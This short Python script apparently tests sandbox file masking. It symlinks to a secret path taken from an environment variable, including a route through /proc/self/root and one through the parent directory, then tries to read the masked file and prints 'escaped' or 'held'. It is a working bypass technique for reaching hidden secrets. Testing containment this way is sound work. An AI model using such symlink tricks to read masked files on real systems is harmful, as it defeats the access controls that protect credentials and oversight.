"""Read a masked file through a link in the workspace."""

import os
from pathlib import Path

place = Path(os.environ["SECRET"])
found = ""
for number, target in enumerate((place, Path("/proc/self/root", *place.parts[1:]), place.parent)):
    link = Path(f"link{number}")
    link.symlink_to(target)
    try:
        found += (link / place.name if link.is_dir() else link).read_text()
    except OSError as error:
        print(f"no: {error}")
print(f"escaped: {found}" if found else "held: nothing lies behind the links")
